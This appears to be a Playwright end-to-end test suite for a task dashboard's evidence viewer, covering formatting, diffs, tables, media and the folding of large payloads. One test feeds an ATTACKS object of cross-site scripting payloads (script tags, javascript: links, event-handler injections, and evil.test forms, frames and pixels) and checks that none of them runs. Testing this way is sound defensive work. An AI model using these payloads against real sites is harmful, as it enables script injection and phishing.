import type { BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { type Dashboard, eventually, startDashboard } from "./dashboard.ts";

let dashboard: Dashboard;
let context: BrowserContext;
let page: Page;

beforeAll(async () => {
  dashboard = await startDashboard();
}, 60_000);
beforeEach(async () => {
  context = await dashboard.open();
  page = await context.newPage();
});
afterEach(() => context.close());
afterAll(() => dashboard?.close());

const DOT =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGNgYPiPB41KY0EAmOhjnTb2o/YAAAAASUVORK5CYII=";

/** Opens a task that lays this payload before the person. */
async function lay(payload: object, members: Record<string, unknown> = {}): Promise<void> {
  const id = await dashboard.ask("Look at this?", { payload, ...members });
  await page.goto(dashboard.addressOf(id));
  await page.getByRole("heading", { name: "Evidence" }).waitFor();
  await evidence().locator("dl").first().waitFor();
}

const evidence = () => page.getByRole("region", { name: "Evidence", exact: true });
/** What stands beside a name. */
const beside = (name: string) =>
  evidence()
    .locator("dl > div", { has: page.locator("dt", { hasText: name }) })
    .locator("dd")
    .first();

test("plain values are drawn as what they mean", async () => {
  await lay({
    amount_usd: 1250.5,
    discount_percent: 12.5,
    confidence: 0.935,
    waited_seconds: 5400,
    due: "2026-12-24",
    seen_at: "2026-11-21T14:05:00+01:00",
    page: "https://example.test/orders/7",
    reply_to: "ana@corp.test",
    owner: { name: "Ben Cole", email: "ben@corp.test", avatar_url: "https://pictures.test/ben.png" },
    phone: "+49 30 123456",
    order_id: "ord_4821",
    fragile: false,
  });
  expect(await beside("Amount").innerText()).toBe("$1,250.50");
  expect(await beside("Discount percent").innerText()).toBe("12.5%");
  expect(await beside("Confidence").innerText()).toBe("93.5%");
  expect(await beside("Waited seconds").innerText()).toBe("5400 (1 h 30 min)");
  expect(await beside("Due").innerText()).toBe("Dec 24, 2026");
  expect(await beside("Seen at").innerText()).toMatch(/^Nov 21, 2026, \d+:05.[AP]M \S+$/);
  expect(await beside("Page").getByRole("link").getAttribute("href")).toBe("https://example.test/orders/7");
  expect(await beside("Reply to").getByRole("link").getAttribute("href")).toBe("mailto:ana@corp.test");
  expect(await beside("Owner").innerText()).toContain("Ben Cole");
  expect(await beside("Phone").getByRole("link").getAttribute("href")).toBe("tel:+4930123456");
  await beside("Order ID").getByRole("button", { name: "Copy Order ID" }).waitFor();
  expect(await beside("Fragile").innerText()).toBe("No");
});

test("the schema says what things are called and how they are meant", async () => {
  const payload_schema = {
    type: "object",
    properties: {
      tier: {
        title: "Plan",
        description: "What they pay for.",
        oneOf: [
          { const: "g", title: "Gold" },
          { const: "s", title: "Silver" },
        ],
      },
      letter: { type: "string", contentMediaType: "text/markdown" },
    },
  };
  await lay({ tier: "g", letter: "Dear **Ana**" }, { payload_schema });
  expect(await beside("Plan").innerText()).toBe("Gold");
  await evidence().getByText("What they pay for.").waitFor();
  expect(await beside("Letter").locator("strong").innerText()).toBe("Ana");
});

test("what changes is shown as a change", async () => {
  const line = (index: number) => `line ${index} of the contract, which stays as it is for good and all`;
  const text = Array.from({ length: 80 }, (_, index) => line(index)).join("\n");
  await lay({
    old_price: 10,
    new_price: 12,
    before: { title: "Tea", weight: 100, note: "same" },
    after: { title: "Green tea", weight: 100, note: "same" },
    original_reply: "Dear Ana, we can not refund the order because it is late.",
    proposed_reply: "Dear Ana, we will refund the order today because it is late.",
    current_terms: text,
    proposed_terms: text.replace(line(40), "a line that is new"),
  });
  expect(await beside("Price").innerText()).toMatch(/10\s*\n*.*12/s);
  const whole = beside("Before → After");
  expect(await whole.locator("del").innerText()).toContain("Tea");
  await whole.getByText("2 members are unchanged").waitFor();
  const reply = beside("Reply");
  expect((await reply.locator("del").allInnerTexts()).join(" ")).toContain("can not");
  expect((await reply.locator("ins").allInnerTexts()).join(" ")).toContain("today");
  const terms = beside("Terms");
  await terms.getByText("+ a line that is new").waitFor();
  expect(await terms.getByText(line(10)).count()).toBe(0);
  await terms.getByRole("button", { name: "36 unchanged lines" }).first().click();
  await terms.getByText(line(10)).waitFor();
});

test("lists of like objects are tables, and long ones are folded", async () => {
  const charges = Array.from({ length: 30 }, (_, index) => ({ item: `item ${index}`, amount_eur: index }));
  await lay({ charges, tags: ["one", "two"] });
  const table = evidence().getByRole("table");
  expect(await table.getByRole("columnheader").allInnerTexts()).toEqual(["Item", "Amount"]);
  expect(await table.getByRole("row").count()).toBe(21);
  await evidence().getByRole("button", { name: "Show all 30 rows" }).click();
  expect(await table.getByRole("row").count()).toBe(31);
  await evidence().getByRole("button", { name: "Show fewer" }).waitFor();
});

test("images are shown and enlarged; one that does not load says so", async () => {
  const asked: (string | undefined)[] = [];
  await page.route("https://pictures.test/**", async (route) => {
    asked.push(route.request().headers().referer);
    if (route.request().url().endsWith("good.png"))
      return route.fulfill({
        contentType: "image/png",
        body: Buffer.from(DOT.split(",")[1] ?? "", "base64"),
      });
    return route.fulfill({ status: 404 });
  });
  await lay({ photo: DOT, scan: "https://pictures.test/good.png", gone: "https://pictures.test/gone.png" });
  await beside("Gone").getByText("The image cannot be shown.").waitFor();
  expect(await beside("Gone").getByRole("link").getAttribute("href")).toBe("https://pictures.test/gone.png");
  for (const name of ["Photo", "Scan"]) {
    const image = beside(name).getByRole("img", { name });
    await eventually(() => image.evaluate((element) => (element as HTMLImageElement).naturalWidth)).toBe(10);
  }
  await beside("Photo").getByRole("button", { name: "Enlarge: Photo" }).click();
  await page.getByRole("dialog", { name: "Photo" }).getByRole("img").waitFor();
  await page.keyboard.press("Escape");
  await eventually(() => page.getByRole("dialog").count()).toBe(0);
  expect(asked).toEqual([undefined, undefined]);
});

test("papers, films and recordings have their place", async () => {
  await page.route("https://media.test/**", (route) => route.abort());
  await lay({
    contract: `data:application/pdf;base64,${Buffer.from("%PDF-1.4\n%%EOF").toString("base64")}`,
    manual: "https://media.test/manual.pdf",
    clip: "https://media.test/clip.mp4",
    call: "https://media.test/call.mp3",
  });
  expect(await beside("Contract").getByRole("link").getAttribute("href")).toMatch(/^blob:/);
  expect(await beside("Manual").getByRole("link").getAttribute("href")).toBe("https://media.test/manual.pdf");
  expect(await beside("Clip").locator("video").getAttribute("preload")).toBe("none");
  expect(await beside("Call").locator("audio").getAttribute("controls")).not.toBeNull();
});

const ATTACKS = {
  note: "<script>window.hacked = 1</script>",
  link: "javascript:window.hacked=1",
  page: "data:text/html,<script>top.hacked=1</script>",
  photo: 'https://pictures.test/x.png" onerror="window.hacked=1',
  letter_md:
    '# Hi\n\n<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>\n\n[go](javascript:window.hacked=1) <a href="data:text/html,x">there</a> <style>body{display:none}</style><iframe src="https://evil.test"></iframe><form action="https://evil.test"><button>Log in</button></form>',
  mail_html:
    '<p style="color:red" onclick="top.hacked=1">Dear <b>Ana</b></p><script>top.hacked=1</script><img src="https://evil.test/pixel.png" alt="logo"><link rel="stylesheet" href="https://evil.test/x.css"><style>@import "https://evil.test/y.css"</style><a href="javascript:top.hacked=1">go</a><svg onload="top.hacked=1"></svg><meta http-equiv="refresh" content="0;url=https://evil.test">',
  drawing: `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.hacked=1"><script>top.hacked=1</script></svg>')}`,
  "<b onmouseover=alert(1)>name</b>": "x",
  __proto: { constructor: { prototype: "x" } },
};

test("nothing in a payload runs, loads unasked or leads where it should not", async () => {
  const asked: string[] = [];
  context.on("request", (request) => asked.push(request.url()));
  await lay(ATTACKS, { metadata: { note: "<img src=x onerror=window.hacked=1>" } });
  await beside("Note").getByText("<script>window.hacked = 1</script>").waitFor();
  const letter = beside("Letter md");
  await letter.getByRole("heading", { name: "Hi" }).waitFor();
  expect(await letter.locator("script,style,iframe,form,[onerror]").count()).toBe(0);
  const frame = evidence().frameLocator("iframe");
  await frame.getByText("Dear").waitFor();
  await frame.getByText("[image: logo]").waitFor();
  expect(await evidence().locator("iframe").getAttribute("sandbox")).toBe("");
  await frame.getByText("Dear").click();
  const leads = await page
    .locator("a[href]")
    .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
  expect(leads.filter((protocol) => !["http:", "https:", "mailto:", "tel:"].includes(protocol))).toEqual([]);
  for (const link of await letter.getByText(/^(?:go|there)$/).all()) await link.click();
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  expect(asked.filter((url) => url.includes("evil.test"))).toEqual([]);
  expect(context.pages().length).toBe(1);
  await page.keyboard.press("r");
  await evidence().getByText("window.hacked = 1").waitFor();
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
});

test("a megabyte of text, five hundred members and deep nesting are folded", async () => {
  let deep: object = { bottom: "reached" };
  for (let depth = 0; depth < 14; depth++) deep = { [`level_${depth}`]: deep };
  const members = Object.fromEntries(Array.from({ length: 500 }, (_, index) => [`fact_${index}`, index]));
  await lay({ deep, wall: "x".repeat(1024 * 1024), text: "word ".repeat(200_000), ...members });
  expect(await evidence().locator("dl > div").count()).toBeLessThan(100);
  expect((await beside("Wall").innerText()).length).toBeLessThan(2_000);
  const more = beside("Wall").getByRole("button", { name: "Show 50,000 more of 1,048,576 characters" });
  await more.click();
  await eventually(async () => (await beside("Wall").innerText()).length).toBeGreaterThan(50_000);
  await beside("Wall").getByRole("button", { name: "Show less" }).click();
  await evidence().getByRole("button", { name: "Show all 503 members" }).click();
  await evidence().getByText("Fact 499", { exact: true }).waitFor();
  expect(await evidence().getByText("reached").count()).toBe(0);
  for (let depth = 0; depth < 12; depth++) {
    const folded = evidence().locator("details:not([open]) > summary").first();
    if ((await folded.count()) === 0) break;
    await folded.click();
  }
  await beside("Deep").getByRole("button", { name: "Show all" }).click();
  await evidence().getByText("reached").waitFor();
  await page.keyboard.press("r");
  await evidence()
    .getByRole("button", { name: /^Show more of/ })
    .waitFor();
});

test("the answer of an ended task is drawn alike, with the files that came", async () => {
  const id = await dashboard.ask("Files?", {
    response_schema: { type: "object", properties: { papers: { type: "array" } } },
  });
  const papers = [{ name: "scan.png", mime: "image/png", size: 75, data: DOT }];
  await dashboard.server.call("POST", `/api/tasks/${id}/complete`, { body: { response: { papers } } });
  await page.goto(dashboard.addressOf(id));
  const answer = page.getByRole("region", { name: "Outcome" });
  await answer.getByText("scan.png").waitFor();
  await answer.getByText("image/png, 75 bytes").waitFor();
  const [saved] = await Promise.all([
    page.waitForEvent("download"),
    answer.getByRole("button", { name: "Save" }).click(),
  ]);
  expect(saved.suggestedFilename()).toBe("scan.png");
});

test("what is to be kept confidential is not in the list, and is there for whoever decides", async () => {
  await lay({ secret: { _redacted: true }, name: "open" });
  await beside("Secret").getByText("Hidden here to protect the data").waitFor();
});

test("no error and no breach of the content security policy in the page", () => {
  expect(dashboard.troubles).toEqual([]);
});
